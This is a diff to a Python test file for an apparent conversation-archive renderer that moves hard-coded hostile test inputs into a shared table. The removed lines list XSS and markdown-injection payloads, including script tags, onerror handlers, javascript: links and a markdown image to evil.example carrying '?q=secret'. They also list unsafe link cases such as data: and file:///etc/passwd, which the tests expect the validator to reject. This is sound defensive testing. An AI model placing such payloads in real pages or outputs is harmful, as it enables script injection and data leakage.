@@ -35,26 +35,10 @@ from tests.agent.archive.shelf import kept_turns
 from tests.agent.archive.values import PARTS
 from tests.support.cases import each_case
 from tests.support.histories import NOW, begun_turn, picture
+from tests.support.tables import table
 
 ADDRESSES = {part.digest: f"../../pictures/{part.digest}.png" for part in PARTS}
-HOSTILE = (
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "' onmouseover='alert(1)",
-    "[here](javascript:alert(1))",
-    "![x](https://evil.example/?q=secret)",
-    "](https://evil.example) ![",
-    "<https://evil.example>",
-    "https://evil.example and www.evil.example and me@evil.example",
-    "[a]: https://evil.example",
-    "&lt;script&gt; &#60;script&#62;",
-    "\\](https://evil.example)",
-    "# heading\n===\n---\n- list\n1. list\n2) list\n+ list\n> quote\n    code\n\tcode\n```\nfence\n~~~",
-    "`code` *em* _em_ **strong** ~~gone~~ | a | b |\n|---|---|",
-    "<!-- comment --> <![CDATA[x]]> <?php ?> <!doctype html>",
-    "</div></body></html><style>*{}</style>",
-    "a\u202eb\u2066c\x00\x1b[31m\U000e0041",
-)
+HOSTILE = table("archive_attacks")["markup"]
 
 
 class Parts(HTMLParser):
@@ -285,21 +269,7 @@ def test_no_title_becomes_html_in_the_list_of_conversations(text: str) -> None:
 
 @each_case(
     ("address", "link"),
-    [
-        ("https://example.org/?q=狐&a=1#x", "https://example.org/?q=%E7%8B%90&a=1#x"),
-        ("http://example.org/a b", "http://example.org/a%20b"),
-        ("https://example.org/%20a", "https://example.org/%20a"),
-        ('https://example.org/"><script>', "https://example.org/%22%3E%3Cscript%3E"),
-        ("https://example.org/(a)'<b>", "https://example.org/%28a%29%27%3Cb%3E"),
-        ("javascript:alert(1)", None),
-        ("JavaScript://example.org/%0aalert(1)", None),
-        ("data:text/html,<script>", None),
-        ("//example.org", None),
-        ("https://", None),
-        ("https://[", None),
-        ("file:///etc/passwd", None),
-        ("", None),
-    ],
+    table("archive_attacks")["links"],
 )
-def test_only_addresses_of_web_pages_become_links(address: str, link: str | None) -> None:
-    assert web_address(address) == link
+def test_only_addresses_of_web_pages_become_links(address: str, link: str) -> None:
+    assert web_address(address) == (link or None)
